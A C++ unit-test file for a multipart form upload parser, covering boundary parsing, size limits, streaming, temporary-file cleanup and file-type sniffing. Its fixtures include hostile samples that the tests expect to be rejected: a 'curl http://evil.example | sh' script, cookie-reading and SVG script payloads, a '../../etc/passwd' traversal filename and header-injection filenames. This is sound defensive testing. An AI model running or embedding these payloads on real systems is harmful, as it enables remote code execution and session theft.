#include "http/multipart.hpp"

#include <array>
#include <atomic>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <openssl/evp.h>

#include "common/testing/result_matchers.hpp"

namespace motcua::http {
namespace {

namespace fs = std::filesystem;

// A fresh directory, removed with its contents.
class TempDir {
public:
    TempDir() {
        static std::atomic<int> counter{0};
        std::random_device random;
        path_ = fs::temp_directory_path() /
                fmt::format("motcua_http_{}_{}", random(), counter.fetch_add(1));
        fs::create_directories(path_);
    }

    TempDir(const TempDir&) = delete;
    TempDir& operator=(const TempDir&) = delete;

    ~TempDir() {
        std::error_code ignored;
        fs::remove_all(path_, ignored);
    }

    const fs::path& path() const { return path_; }

    // Every entry in the directory except `except`.
    std::vector<std::string> Entries(const std::string& except = {}) const {
        std::vector<std::string> out;
        for (const auto& e : fs::directory_iterator(path_)) {
            if (e.path().string() != except) {
                out.push_back(e.path().filename().string());
            }
        }
        return out;
    }

private:
    fs::path path_;
};

std::string Sha256Hex(std::string_view data) {
    std::array<unsigned char, EVP_MAX_MD_SIZE> md{};
    unsigned int length = 0;
    EVP_Digest(data.data(), data.size(), md.data(), &length, EVP_sha256(), nullptr);
    std::string out;
    for (unsigned int i = 0; i < length; ++i) {
        out += fmt::format("{:02x}", md[i]);
    }
    return out;
}

std::string Slurp(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream content;  // not istreambuf_iterator: GCC 12 -O3 -Wnull-dereference
    content << in.rdbuf();
    return content.str();
}

// ---- Sample contents ------------------------------------------------------------------------

const std::string kPdf = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n";
// The PNG signature holds "\r\n" and "\n": line breaks inside content must not confuse anyone.
const std::string kPng =
    std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02", 24);
const std::string kJpeg = std::string("\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0", 20);
const std::string kExe = std::string("MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0", 16);
const std::string kHtml = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script>";
const std::string kScript = "#!/bin/sh\ncurl http://evil.example | sh\n";
const std::string kSvg =
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";

void Put16(std::string& s, std::uint32_t v) {
    s += static_cast<char>(v & 0xFFU);
    s += static_cast<char>((v >> 8U) & 0xFFU);
}

void Put32(std::string& s, std::uint32_t v) {
    Put16(s, v & 0xFFFFU);
    Put16(s, v >> 16U);
}

// A stored (uncompressed) ZIP with these entry names (contents are the names; CRCs are not
// checked by the sniffer).
std::string Zip(const std::vector<std::string>& names, std::uint32_t flags = 0) {
    std::string out;
    std::string directory;
    for (const std::string& name : names) {
        const auto offset = static_cast<std::uint32_t>(out.size());
        const auto n = static_cast<std::uint32_t>(name.size());
        Put32(out, 0x04034b50U);
        Put16(out, 20);
        Put16(out, flags);
        Put16(out, 0);  // stored
        Put32(out, 0);  // time, date
        Put32(out, 0);  // crc
        Put32(out, n);
        Put32(out, n);
        Put16(out, n);
        Put16(out, 0);
        out += name;
        out += name;
        Put32(directory, 0x02014b50U);
        Put16(directory, 20);
        Put16(directory, 20);
        Put16(directory, flags);
        Put16(directory, 0);
        Put32(directory, 0);
        Put32(directory, 0);
        Put32(directory, n);
        Put32(directory, n);
        Put16(directory, n);
        Put16(directory, 0);
        Put16(directory, 0);
        Put16(directory, 0);
        Put16(directory, 0);
        Put32(directory, 0);
        Put32(directory, offset);
        directory += name;
    }
    const auto directory_offset = static_cast<std::uint32_t>(out.size());
    out += directory;
    Put32(out, 0x06054b50U);
    Put16(out, 0);
    Put16(out, 0);
    Put16(out, static_cast<std::uint32_t>(names.size()));
    Put16(out, static_cast<std::uint32_t>(names.size()));
    Put32(out, static_cast<std::uint32_t>(directory.size()));
    Put32(out, directory_offset);
    Put16(out, 0);
    return out;
}

const std::string kDocx = Zip({"[Content_Types].xml", "_rels/.rels", "word/document.xml"});
const std::string kXlsx = Zip({"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml"});
const std::string kDocm = Zip({"[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"});
const std::string kEncryptedDocx = Zip({"[Content_Types].xml", "word/document.xml"}, 1);
const std::string kPlainZip = Zip({"a.txt", "b.txt"});

// ---- Body builders --------------------------------------------------------------------------

constexpr std::string_view kBoundary = "----motcuaBoundary7MA4YWxkTrZu0gW";

std::string ContentType(std::string_view boundary = kBoundary) {
    return fmt::format("multipart/form-data; boundary={}", boundary);
}

std::string FieldPart(std::string_view name, std::string_view value) {
    return fmt::format("--{}\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n{}\r\n",
                       kBoundary,
                       name,
                       value);
}

std::string FilePart(std::string_view filename,
                     std::string_view content,
                     std::string_view type = "application/pdf",
                     std::string_view name = "file") {
    return fmt::format(
               "--{}\r\nContent-Disposition: form-data; name=\"{}\"; filename=\"{}\"\r\n"
               "Content-Type: {}\r\n\r\n",
               kBoundary,
               name,
               filename,
               type) +
           std::string(content) + "\r\n";
}

std::string Close() {
    return fmt::format("--{}--\r\n", kBoundary);
}

// ---- The fixture ----------------------------------------------------------------------------

class MultipartTest : public ::testing::Test {
protected:
    // Writes `body` as the server would and parses it.
    Result<MultipartForm> Parse(const std::string& body,
                                const std::string& content_type = ContentType(),
                                MultipartLimits limits = {}) {
        body_path_ = (dir_.path() / "motcua-upload-test").string();
        std::ofstream(body_path_, std::ios::binary | std::ios::trunc) << body;
        return ParseMultipart(body_path_, content_type, limits);
    }

    // What is left in the directory besides the body.
    std::vector<std::string> Leftovers() const { return dir_.Entries(body_path_); }

    TempDir dir_;
    std::string body_path_;
};

struct ExpectedFile {
    std::string display_name;
    FileKind kind;
    std::string content;
};

struct GoodCase {
    std::string_view name;
    std::string body;
    std::vector<std::pair<std::string, std::string>> fields;
    std::vector<ExpectedFile> files;
    std::string content_type = ContentType();
};

class GoodBodies : public MultipartTest, public ::testing::WithParamInterface<GoodCase> {};

TEST_P(GoodBodies, Parse) {
    const GoodCase& c = GetParam();
    MultipartLimits limits;
    limits.allowed = {
        FileKind::kPdf, FileKind::kPng, FileKind::kJpeg, FileKind::kDocx, FileKind::kXlsx};
    {
        auto form = Parse(c.body, c.content_type, limits);
        ASSERT_THAT(form, IsOk());
        EXPECT_EQ(form->fields, c.fields);
        ASSERT_EQ(form->files.size(), c.files.size());
        for (std::size_t i = 0; i < c.files.size(); ++i) {
            const UploadedFile& f = form->files[i];
            SCOPED_TRACE(f.display_name);
            EXPECT_EQ(f.display_name, c.files[i].display_name);
            EXPECT_EQ(f.kind, c.files[i].kind);
            EXPECT_EQ(f.content_type, MimeTypeOf(c.files[i].kind));
            EXPECT_EQ(f.size, static_cast<std::int64_t>(c.files[i].content.size()));
            EXPECT_EQ(f.sha256, Sha256Hex(c.files[i].content));
            EXPECT_EQ(Slurp(f.temp_path), c.files[i].content);
            // The temporary file is ours, in our directory, never named after the user's file.
            EXPECT_EQ(fs::path(f.temp_path).parent_path(), dir_.path());
            EXPECT_TRUE(fs::path(f.temp_path).filename().string().starts_with("motcua-part-"));
        }
    }
    EXPECT_THAT(Leftovers(), ::testing::IsEmpty());  // the form removed its files
}

INSTANTIATE_TEST_SUITE_P(
    Multipart,
    GoodBodies,
    ::testing::Values(
        GoodCase{"field_and_pdf",
                 FieldPart("procedure", "1.001193") + FilePart("to-khai.pdf", kPdf) + Close(),
                 {{"procedure", "1.001193"}},
                 {{"to-khai.pdf", FileKind::kPdf, kPdf}}},
        GoodCase{"png_and_jpeg",
                 FilePart("anh.png", kPng, "image/png") +
                     FilePart("scan.jpg", kJpeg, "image/jpeg", "file2") + Close(),
                 {},
                 {{"anh.png", FileKind::kPng, kPng}, {"scan.jpg", FileKind::kJpeg, kJpeg}}},
        GoodCase{"office_files_when_allowed",
                 FilePart("don.docx", kDocx, "application/octet-stream") +
                     FilePart("bang.xlsx", kXlsx, "application/octet-stream") + Close(),
                 {},
                 {{"don.docx", FileKind::kDocx, kDocx}, {"bang.xlsx", FileKind::kXlsx, kXlsx}}},
        GoodCase{"traversal_name_is_display_only",
                 FilePart("../../etc/passwd", kPdf) + Close(),
                 {},
                 {{"passwd", FileKind::kPdf, kPdf}}},
        GoodCase{"vietnamese_name_and_field",
                 FieldPart("ghi_chu", "Nộp bổ sung giấy chứng sinh") +
                     FilePart("Giấy chứng sinh.pdf", kPdf) + Close(),
                 {{"ghi_chu", "Nộp bổ sung giấy chứng sinh"}},
                 {{"Giấy chứng sinh.pdf", FileKind::kPdf, kPdf}}},
        GoodCase{"rfc8187_filename",
                 fmt::format("--{}\r\nContent-Disposition: form-data; name=\"file\"; "
                             "filename=\"fallback.pdf\"; filename*=UTF-8''T%E1%BB%9D%20khai.pdf"
                             "\r\n\r\n",
                             kBoundary) +
                     kPdf + "\r\n" + Close(),
                 {},
                 {{"Tờ khai.pdf", FileKind::kPdf, kPdf}}},
        GoodCase{"quoted_boundary_preamble_padding_epilogue",
                 "This is a preamble.\r\n" +
                     fmt::format("--{}  \r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n",
                                 kBoundary) +
                     Close() + "epilogue, ignored",
                 {{"a", "1"}},
                 {},
                 fmt::format("Multipart/Form-Data; charset=utf-8; boundary=\"{}\"", kBoundary)},
        GoodCase{"content_that_looks_like_a_boundary",
                 FieldPart("x",
                           fmt::format("a\r\n--{}X is not it; --{} neither",
                                       kBoundary.substr(0, 10),
                                       kBoundary)) +
                     Close(),
                 {{"x",
                   fmt::format("a\r\n--{}X is not it; --{} neither",
                               kBoundary.substr(0, 10),
                               kBoundary)}},
                 {}},
        GoodCase{"empty_file_input_is_skipped",
                 FieldPart("a", "") + FilePart("", "", "application/octet-stream") + Close(),
                 {{"a", ""}},
                 {}},
        GoodCase{"no_parts", Close(), {}, {}}),
    [](const ::testing::TestParamInfo<GoodCase>& p) { return std::string(p.param.name); });

struct BadCase {
    std::string_view name;
    std::string body;
    ErrorCode code = ErrorCode::kInvalidArgument;
    bool unsupported = false;  // IsUnsupportedContent (→ 415)
    std::string content_type = ContentType();
};

class BadBodies : public MultipartTest, public ::testing::WithParamInterface<BadCase> {};

TEST_P(BadBodies, AreRefusedAndLeaveNothingBehind) {
    const BadCase& c = GetParam();
    MultipartLimits limits;
    limits.max_parts = 4;
    limits.max_files = 2;
    limits.max_field_bytes = 64;
    limits.max_fields_bytes = 100;
    limits.max_file_bytes = 1024;
    const auto form = Parse(c.body, c.content_type, limits);
    ASSERT_THAT(form, HasError(c.code));
    EXPECT_EQ(IsUnsupportedContent(form.error()), c.unsupported);
    EXPECT_FALSE(form.error().message.empty());
    EXPECT_FALSE(form.error().message_vi.empty());
    if (c.unsupported) {
        EXPECT_THAT(form.error().message, ::testing::HasSubstr("allowed: PDF, PNG, JPEG"));
        EXPECT_THAT(form.error().message_vi, ::testing::HasSubstr("chấp nhận: PDF, PNG, JPEG"));
    }
    EXPECT_THAT(Leftovers(), ::testing::IsEmpty());
}

std::string Repeat(std::string_view s, std::size_t n) {
    std::string out;
    for (std::size_t i = 0; i < n; ++i) {
        out += s;
    }
    return out;
}

INSTANTIATE_TEST_SUITE_P(
    Multipart,
    BadBodies,
    ::testing::Values(
        BadCase{"missing_boundary",
                FilePart("a.pdf", kPdf) + Close(),
                ErrorCode::kInvalidArgument,
                false,
                "multipart/form-data"},
        BadCase{"not_multipart",
                FilePart("a.pdf", kPdf) + Close(),
                ErrorCode::kInvalidArgument,
                false,
                "application/json; boundary=x"},
        BadCase{"boundary_too_long",
                Close(),
                ErrorCode::kInvalidArgument,
                false,
                ContentType(std::string(71, 'a'))},
        BadCase{"boundary_bad_characters",
                Close(),
                ErrorCode::kInvalidArgument,
                false,
                "multipart/form-data; boundary=\"a\r\nb\""},
        BadCase{"empty_body", ""},
        BadCase{"other_boundary",
                FilePart("a.pdf", kPdf) + Close(),
                ErrorCode::kInvalidArgument,
                false,
                ContentType("somethingElse")},
        BadCase{"truncated_in_file", FilePart("a.pdf", kPdf).substr(0, 150)},
        BadCase{"no_closing_boundary", FilePart("a.pdf", kPdf)},
        BadCase{"ends_after_a_boundary", FilePart("a.pdf", kPdf) + "--" + std::string(kBoundary)},
        BadCase{"truncated_in_headers",
                fmt::format("--{}\r\nContent-Disposition: form-da", kBoundary)},
        BadCase{"garbage_after_boundary", fmt::format("--{}junk\r\n", kBoundary) + Close()},
        BadCase{"header_injection_through_filename",
                fmt::format("--{}\r\nContent-Disposition: form-data; name=\"file\"; "
                            "filename=\"a.pdf\r\nContent-Type: text/html\"\r\n\r\n",
                            kBoundary) +
                    kPdf + "\r\n" + Close()},
        BadCase{"bare_lf_in_header",
                fmt::format("--{}\r\nContent-Disposition: form-data; name=\"file\"; "
                            "filename=\"a.pdf\nX-Evil: 1\"\r\n\r\n",
                            kBoundary) +
                    kPdf + "\r\n" + Close()},
        BadCase{"folded_header",
                fmt::format("--{}\r\nContent-Disposition: form-data;\r\n name=\"a\"\r\n\r\n1\r\n",
                            kBoundary) +
                    Close()},
        BadCase{"nul_in_header",
                fmt::format("--{}\r\nContent-Disposition: form-data; name=\"a", kBoundary) +
                    std::string(1, '\0') + "b\"\r\n\r\n1\r\n" + Close()},
        BadCase{"two_dispositions",
                fmt::format("--{}\r\nContent-Disposition: form-data; name=\"a\"\r\n"
                            "Content-Disposition: form-data; name=\"b\"\r\n\r\n1\r\n",
                            kBoundary) +
                    Close()},
        BadCase{"duplicate_filename_parameter",
                fmt::format("--{}\r\nContent-Disposition: form-data; name=\"f\"; "
                            "filename=\"a.pdf\"; filename=\"a.html\"\r\n\r\n",
                            kBoundary) +
                    kPdf + "\r\n" + Close()},
        BadCase{"no_disposition",
                fmt::format("--{}\r\nContent-Type: text/plain\r\n\r\n1\r\n", kBoundary) + Close()},
        BadCase{"no_name",
                fmt::format("--{}\r\nContent-Disposition: form-data; filename=\"a.pdf\"\r\n\r\n",
                            kBoundary) +
                    kPdf + "\r\n" + Close()},
        BadCase{"transfer_encoding",
                fmt::format("--{}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.pdf\""
                            "\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n",
                            kBoundary) +
                    Close()},
        BadCase{"huge_header",
                fmt::format("--{}\r\nContent-Disposition: form-data; name=\"a\"\r\nX-Pad: {}\r\n"
                            "\r\n1\r\n",
                            kBoundary,
                            std::string(5000, 'x')) +
                    Close()},
        BadCase{"huge_field", FieldPart("note", std::string(65, 'x')) + Close()},
        BadCase{
            "fields_too_long_together",
            FieldPart("a", std::string(60, 'x')) + FieldPart("b", std::string(60, 'x')) + Close()},
        BadCase{"field_not_utf8", FieldPart("a", "\xC3\x28") + Close()},
        BadCase{"too_many_parts", Repeat(FieldPart("a", "1"), 5) + Close()},
        BadCase{"too_many_files", Repeat(FilePart("a.pdf", kPdf), 3) + Close()},
        BadCase{"file_too_large",
                FilePart("big.pdf", kPdf + std::string(1024, ' ')) + Close(),
                ErrorCode::kOutOfRange},
        BadCase{"empty_named_file", FilePart("a.pdf", "") + Close()},
        BadCase{"exe_named_pdf",
                FilePart("hoa-don.pdf", kExe) + Close(),
                ErrorCode::kInvalidArgument,
                true},
        BadCase{"html_named_pdf",
                FilePart("to-khai.pdf", kHtml) + Close(),
                ErrorCode::kInvalidArgument,
                true},
        BadCase{"script_named_pdf",
                FilePart("to-khai.pdf", kScript) + Close(),
                ErrorCode::kInvalidArgument,
                true},
        BadCase{"svg_named_png",
                FilePart("anh.png", kSvg, "image/png") + Close(),
                ErrorCode::kInvalidArgument,
                true},
        BadCase{"pdf_magic_not_at_start",
                FilePart("a.pdf", " " + kPdf) + Close(),
                ErrorCode::kInvalidArgument,
                true},
        BadCase{"docx_not_allowed_by_default",
                FilePart("don.docx", kDocx) + Close(),
                ErrorCode::kInvalidArgument,
                true},
        BadCase{"bad_file_after_a_good_one",
                FilePart("a.pdf", kPdf) + FilePart("b.pdf", kExe) + Close(),
                ErrorCode::kInvalidArgument,
                true}),
    [](const ::testing::TestParamInfo<BadCase>& p) { return std::string(p.param.name); });

// ---- Content recognition --------------------------------------------------------------------

struct SniffCase {
    std::string_view name;
    std::string content;
    std::optional<FileKind> kind;
};

class Sniffing : public ::testing::TestWithParam<SniffCase> {};

TEST_P(Sniffing, RecognisesContentByItsBytes) {
    const TempDir dir;
    const std::string path = (dir.path() / "f").string();
    std::ofstream(path, std::ios::binary) << GetParam().content;
    EXPECT_EQ(SniffFile(path), GetParam().kind);
}

INSTANTIATE_TEST_SUITE_P(
    Multipart,
    Sniffing,
    ::testing::Values(SniffCase{"pdf", kPdf, FileKind::kPdf},
                      SniffCase{"png", kPng, FileKind::kPng},
                      SniffCase{"jpeg", kJpeg, FileKind::kJpeg},
                      SniffCase{"docx", kDocx, FileKind::kDocx},
                      SniffCase{"xlsx", kXlsx, FileKind::kXlsx},
                      SniffCase{"docm_with_macros", kDocm, std::nullopt},
                      SniffCase{"encrypted_entries", kEncryptedDocx, std::nullopt},
                      SniffCase{"plain_zip", kPlainZip, std::nullopt},
                      SniffCase{"truncated_zip", kDocx.substr(0, kDocx.size() - 30), std::nullopt},
                      SniffCase{"exe", kExe, std::nullopt},
                      SniffCase{"html", kHtml, std::nullopt},
                      SniffCase{"script", kScript, std::nullopt},
                      SniffCase{"empty", "", std::nullopt},
                      SniffCase{"short", "%PD", std::nullopt}),
    [](const ::testing::TestParamInfo<SniffCase>& p) { return std::string(p.param.name); });

TEST(Sniffing, MissingFileIsNothing) {
    EXPECT_EQ(SniffFile("/nonexistent/motcua/file"), std::nullopt);
}

// ---- Streaming --------------------------------------------------------------------------------

TEST_F(MultipartTest, LargeFilesStreamAcrossReadsIntact) {
    // 3 MB with near-boundaries everywhere, including across the reader's chunk edges.
    std::mt19937 random(42);
    std::string content = kPdf;
    const std::string near = "\r\n--" + std::string(kBoundary.substr(0, kBoundary.size() - 1));
    while (content.size() < 3 * 1024 * 1024) {
        content += static_cast<char>(random() % 256);
        if (random() % 1000 == 0) {
            // A prefix of the delimiter, then a byte that cannot continue it.
            content += near.substr(0, random() % near.size());
            content += '\x01';
        }
    }
    auto form =
        Parse(FieldPart("a", "1") + FilePart("big.pdf", content) + FieldPart("b", "2") + Close());
    ASSERT_THAT(form, IsOk());
    ASSERT_EQ(form->files.size(), 1U);
    EXPECT_EQ(form->files[0].size, static_cast<std::int64_t>(content.size()));
    EXPECT_EQ(form->files[0].sha256, Sha256Hex(content));
    EXPECT_EQ(Slurp(form->files[0].temp_path), content);
    EXPECT_EQ(form->Field("a"), "1");
    EXPECT_EQ(form->Field("b"), "2");
    EXPECT_EQ(form->Field("c"), std::nullopt);
}

TEST_F(MultipartTest, ReleasedFilesAreLeftToTheirNewOwner) {
    std::string kept;
    {
        auto form = Parse(FilePart("a.pdf", kPdf) + FilePart("b.png", kPng, "image/png") + Close());
        ASSERT_THAT(form, IsOk());
        kept = form->files[0].temp_path;
        form->Release(0);
        MultipartForm moved = std::move(*form);
        EXPECT_TRUE(form->files.empty());
        EXPECT_EQ(moved.files.size(), 2U);
    }
    EXPECT_EQ(Leftovers(), std::vector<std::string>{fs::path(kept).filename().string()});
}

TEST_F(MultipartTest, FilesGoToTheConfiguredDirectory) {
    const TempDir other;
    MultipartLimits limits;
    limits.temp_dir = other.path().string();
    auto form = Parse(FilePart("a.pdf", kPdf) + Close(), ContentType(), limits);
    ASSERT_THAT(form, IsOk());
    EXPECT_EQ(fs::path(form->files[0].temp_path).parent_path(), other.path());
}

TEST(Boundary, IsTakenFromTheContentType) {
    EXPECT_THAT(BoundaryOf("multipart/form-data; boundary=abc"), IsOkAndHolds(std::string("abc")));
    EXPECT_THAT(BoundaryOf("multipart/form-data;boundary=\"a b:c\""),
                IsOkAndHolds(std::string("a b:c")));
    EXPECT_THAT(BoundaryOf("multipart/form-data; boundary=\"abc \""),
                HasError(ErrorCode::kInvalidArgument));
    EXPECT_THAT(BoundaryOf("multipart/form-data; boundary=a; boundary=b"),
                HasError(ErrorCode::kInvalidArgument));
    EXPECT_THAT(BoundaryOf("multipart/mixed; boundary=abc"), HasError(ErrorCode::kInvalidArgument));
    EXPECT_THAT(BoundaryOf(""), HasError(ErrorCode::kInvalidArgument));
}

}  // namespace
}  // namespace motcua::http
